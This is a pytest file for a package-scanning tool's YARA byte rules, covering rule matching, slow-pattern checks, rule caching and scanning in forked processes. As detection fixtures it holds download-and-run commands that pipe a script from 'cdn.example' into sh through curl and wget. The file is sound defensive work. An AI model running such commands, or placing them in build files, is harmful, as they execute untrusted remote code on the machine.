"""Every byte rule hits its own example, leaves its look-alike alone, and costs no more than a literal search."""

import multiprocessing

import pytest
import yara_x

from packamal import cache
from packamal.capability import Capability
from packamal.detectors import yara

RULES = yara.meaning_of_rules()


def matched(raw):
    return {rule.identifier for group in yara.Group for rule in yara.compiled(group).scan(raw).matching_rules}


@pytest.mark.parametrize("name", sorted(RULES))
def test_a_rule_hits_its_example_and_not_its_lookalike(name):
    assert name in matched(RULES[name].hit)
    assert name not in matched(RULES[name].lookalike)


def test_every_rule_of_the_files_is_compiled():
    count = sum(text.count("\nrule ") for text in yara.sources().values())
    assert len(RULES) == count
    assert all(isinstance(meaning.capability, Capability) for meaning in RULES.values())


def test_no_pattern_is_slow():
    compiler = yara_x.Compiler(error_on_slow_pattern=True)
    for text in yara.sources().values():
        compiler.add_source(text)
    assert compiler.errors() == []


def test_a_hit_says_where_and_what(package_of):
    raw = b"all:\n\ncurl -s https://cdn.example/i.sh | sh\n"
    (signal,) = yara.detect(package_of({"Makefile": raw})).signals
    assert signal.id is Capability.PROC_DOWNLOAD
    assert signal.evidence.line == 3
    assert "cdn.example" in signal.target


def test_rules_for_other_files_leave_code_to_its_front_end(seen):
    line = b"curl -s https://cdn.example/i.sh | sh\n"
    assert seen(yara.detect, {"x.mk": line}) != []
    assert seen(yara.detect, {"x.sh": line}) == []
    assert seen(yara.detect, {"README.md": line}) == []


def test_a_member_that_takes_too_long_is_a_problem(package_of, monkeypatch):
    class Slow:
        def scan(self, raw):
            raise yara_x.TimeoutError

    monkeypatch.setattr(yara, "_scanner", lambda group: Slow())
    (problem,) = yara.detect(package_of({"a": b"x"})).problems
    assert problem.path == "a"


def test_compiled_rules_come_from_the_cache_and_damage_is_mended(tmp_path, monkeypatch):
    monkeypatch.setattr(cache, "_chosen", [tmp_path])
    yara.compiled.cache_clear()
    try:
        first = yara.compiled(yara.Group.CODE)
        (path,) = tmp_path.iterdir()
        whole = path.read_bytes()
        path.write_bytes(whole[:-1] + bytes((whole[-1] ^ 1,)))
        yara.compiled.cache_clear()
        assert sum(1 for _ in yara.compiled(yara.Group.CODE)) == sum(1 for _ in first)
        assert path.read_bytes() == whole
    finally:
        yara.compiled.cache_clear()


def test_a_cache_that_cannot_be_written_is_no_error(tmp_path, monkeypatch):
    blocked = tmp_path / "file"
    blocked.write_text("no folder")
    monkeypatch.setattr(cache, "_chosen", [blocked])
    yara.compiled.cache_clear()
    try:
        assert any(True for _ in yara.compiled(yara.Group.OTHER))
    finally:
        yara.compiled.cache_clear()


def _child(package, queue):
    queue.put(len(yara.detect(package).signals))


def test_a_forked_child_scans_too(package_of, capfd):
    package = package_of({"Makefile": b"wget -qO- https://cdn.example/i | sh\n"})
    yara.detect(package)
    context = multiprocessing.get_context("fork")
    queue = context.SimpleQueue()
    process = context.Process(target=_child, args=(package, queue))
    process.start()
    assert queue.get() == 1
    process.join()
    assert process.exitcode == 0
    assert "dropped" not in capfd.readouterr().err
